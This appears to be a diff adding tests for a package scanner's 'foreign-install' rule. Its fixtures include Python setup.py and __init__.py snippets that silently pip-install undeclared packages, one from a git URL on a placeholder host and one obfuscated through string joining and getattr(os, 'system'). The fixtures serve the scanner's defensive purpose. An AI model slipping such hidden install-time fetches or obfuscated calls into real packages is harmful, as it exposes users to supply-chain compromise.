@@ -1,0 +1,72 @@
+import { expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+test('an undeclared project that setup.py installs is suspicious', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os',
+      'from setuptools import setup',
+      "os.system('pip install helper-of-the-helper')",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('foreign-install', file)).toMatchObject([
+    { class: 'suspicious', score: 5, context: 'install', path: 'example-1.0.0/setup.py', line: 3 },
+  ]);
+});
+
+test('an install from an address weighs more than one by name', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import subprocess, sys',
+      "subprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://code.tools.invalid/x.git'])",
+    ),
+  });
+
+  expect(await inspect('foreign-install', file)).toMatchObject([
+    { class: 'suspicious', score: 8, context: 'import', path: 'pkg/__init__.py', line: 2 },
+  ]);
+});
+
+test('a build that fetches numpy first stays below quarantine', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import subprocess, sys',
+      "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'numpy'])",
+      'from setuptools import setup',
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('foreign-install', file)).toMatchObject([{ score: 2 }]);
+});
+
+test('a function that installs an extra when a person calls it is silent', async () => {
+  const file = wheel({
+    'pkg/extras.py': python(
+      'import subprocess, sys',
+      'def add_plots():',
+      "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'plots-of-pkg'])",
+    ),
+  });
+
+  expect(await inspect('foreign-install', file)).toEqual([]);
+});
+
+test('a command put together from pieces and started through getattr is found', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os',
+      'from setuptools import setup',
+      "verb = ''.join(['in', 'stall'])",
+      "run = getattr(os, 'sys' + 'tem')",
+      "run('%s %s helper-of-the-helper' % ('p' + 'ip', verb))",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('foreign-install', file)).toMatchObject([
+    { class: 'suspicious', score: 5, path: 'example-1.0.0/setup.py', line: 5 },
+  ]);
+});
